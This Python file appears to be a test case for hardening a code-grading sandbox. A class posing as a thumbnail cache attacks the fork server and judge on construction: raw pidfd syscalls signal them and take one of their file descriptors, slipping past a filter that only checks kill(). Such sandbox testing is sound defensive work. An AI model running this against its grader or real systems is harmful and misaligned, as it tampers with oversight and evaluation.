"""Opens process descriptors of the fork server and the judge and signals through them, where a filter looks at kill alone.

Against: weak_thumbnail_cache
Harm: signals the judge
Merits: nothing
Answer: failed or crashed
"""

import contextlib
import ctypes
import errno
import os
import signal


def through(what):
    """Say what succeeded although it must not."""
    print("GOT" + " THROUGH: " + what, flush=True)


def parent_of(pid):
    """The parent of a process."""
    with open(f"/proc/{pid}/stat") as file:
        return int(file.read().rpartition(")")[2].split()[1])


def victims():
    """The fork server and the judge, where this is one of its workers; nobody else."""
    if "katas-" not in os.getcwd():
        return []
    found = [os.getppid()]
    with contextlib.suppress(OSError):
        found.append(parent_of(found[0]))
    return [pid for pid in found if pid > 1]


def syscall(name, *args):
    """A system call by its number, past the C library's wrapper: (result, errno)."""
    if name not in NUMBERS:
        return -1, errno.ENOSYS
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    words = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    return libc.syscall(ctypes.c_long(NUMBERS[name]), *words), ctypes.get_errno()


NUMBERS = {"pidfd_send_signal": 424, "pidfd_open": 434, "pidfd_getfd": 438}


def attack():
    """Signal by descriptor: SIGURG, which nobody minds; then take a descriptor of theirs."""
    for pid in victims():
        fd, _ = syscall("pidfd_open", pid, 0)
        if fd < 0:
            continue
        if syscall("pidfd_send_signal", fd, int(signal.SIGURG), None, 0)[0] == 0:
            through(f"signalled {pid} through a descriptor")
        stolen, _ = syscall("pidfd_getfd", fd, 0, 0)
        if stolen >= 0:
            through(f"took a descriptor of {pid}")
            os.close(stolen)
        os.close(fd)


class ThumbnailCache:
    """Attacks when it is made."""

    def __init__(self, load):
        attack()
        raise RuntimeError("nothing was gained")

    def get(self, key):
        """Never reached."""

    def __len__(self):
        return 0
